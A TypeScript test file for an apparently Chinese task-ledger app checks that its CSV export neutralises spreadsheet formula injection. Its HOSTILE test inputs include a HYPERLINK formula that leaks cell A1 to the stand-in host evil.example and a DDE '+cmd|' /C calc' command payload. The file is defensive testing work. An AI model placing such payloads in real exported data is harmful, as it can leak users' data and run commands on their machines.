import fc from "fast-check";
import { builtInPlans, deriveChecklist, EMPTY_PROGRESS, ledgerRows, type HistoryRow, type LedgerSource } from "@taizhang/core";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { guardCsvFormula, historyCsv, ledgerCsv, readLedgerFile, unguardCsvFormula } from "./index.js";

/* Issue 14: notes and 责任人 such as =HYPERLINK(…) were exported verbatim to CSV, where a spreadsheet runs them. */

const found = builtInPlans.find((p) => p.id === "chengdu-2015");
if (!found) throw new Error("no 成都 plan");
const chengdu = found;
const items = deriveChecklist(chengdu).slice(0, 3);
const rowsWith = (notes: readonly string[], person = "") => {
  const sources: LedgerSource[] = items.flatMap((item, i) =>
    item.assignments.slice(0, 1).map((a) => ({
      item,
      unitId: a.unitId,
      role: a.role,
      progress: { ...EMPTY_PROGRESS, itemId: item.id, unitId: a.unitId, version: 0, updatedBy: null, updatedAt: null, note: notes[i % notes.length] ?? "", responsiblePerson: person ? { name: person, post: null, contact: null } : null },
    })),
  );
  return ledgerRows([chengdu], sources, new Date("2021-01-05T04:00:00Z"));
};
const HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"];
const cellsOf = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];

describe("CSV formula guard", () => {
  it("exports no cell a spreadsheet would run: notes, 责任人 and history values get a leading '", () => {
    const csv = ledgerCsv(rowsWith(HOSTILE.slice(0, 3), "=HYPERLINK(\"x\")"));
    const [head, ...body] = cellsOf(csv);
    const note = head?.indexOf("进展说明") ?? -1;
    const person = head?.indexOf("责任人") ?? -1;
    expect(body.map((r) => r[note])).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+cmd|' /C calc'!A0", "'-2+3"]);
    expect(body.every((r) => r[person] === "'=HYPERLINK(\"x\")")).toBe(true);
    for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/);

    const history: HistoryRow[] = [
      { id: 1, at: "2021-01-01T00:00:00Z", actor: "-x", source: "api", planTitle: chengdu.title, taskNumber: 1, item: "整项任务", unit: "市委编办", version: 1, changed: "=1+1", note: "@SUM(A1)", itemId: items[0]?.id ?? ("" as never), unitId: "成都市:市委编办" as never },
    ];
    const [, line] = cellsOf(historyCsv(history));
    expect(line?.filter((c) => c.startsWith("'"))).toEqual(["'-x", "'=1+1", "'@SUM(A1)"]);
  });

  it("leaves negative numbers (剩余天数 of an overdue task) and ordinary text alone", () => {
    expect(["-12", "-0.5", "已完成", "a=b", "'quoted", ""].map(guardCsvFormula)).toEqual(["-12", "-0.5", "已完成", "a=b", "'quoted", ""]);
  });

  it("reading our own CSV back strips exactly the ' the export added (fast-check)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        expect(unguardCsvFormula(guardCsvFormula(text))).toBe(text);
        const guarded = guardCsvFormula(text);
        expect(/^[=+@\t\r]/.test(guarded) || (/^-/.test(guarded) && !/^-\d+(?:\.\d+)?$/.test(guarded))).toBe(false);
      }),
      { numRuns: 2_000 },
    );
    for (const text of [...HOSTILE, "''=x", "'-2+3", "'", "''"]) expect(unguardCsvFormula(guardCsvFormula(text))).toBe(text);
  });

  it("export → read back gives every note and 责任人 as it was, hostile ones included", async () => {
    const notes = fc.sample(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "grapheme" }).filter((s) => !s.includes("\u0000"))), 60);
    for (let i = 0; i < notes.length; i += 3) {
      const rows = rowsWith(notes.slice(i, i + 3), HOSTILE[i % HOSTILE.length]);
      const file = await readLedgerFile(new TextEncoder().encode(ledgerCsv(rows)));
      expect(file.rows).toHaveLength(rows.length);
      for (const r of file.rows) {
        const row = rows.find((x) => x.itemId === r.cells.itemId);
        expect(r.cells.note).toBe(row?.note);
        expect(r.cells.responsiblePerson).toBe(HOSTILE[i % HOSTILE.length]);
      }
    }
  });
});
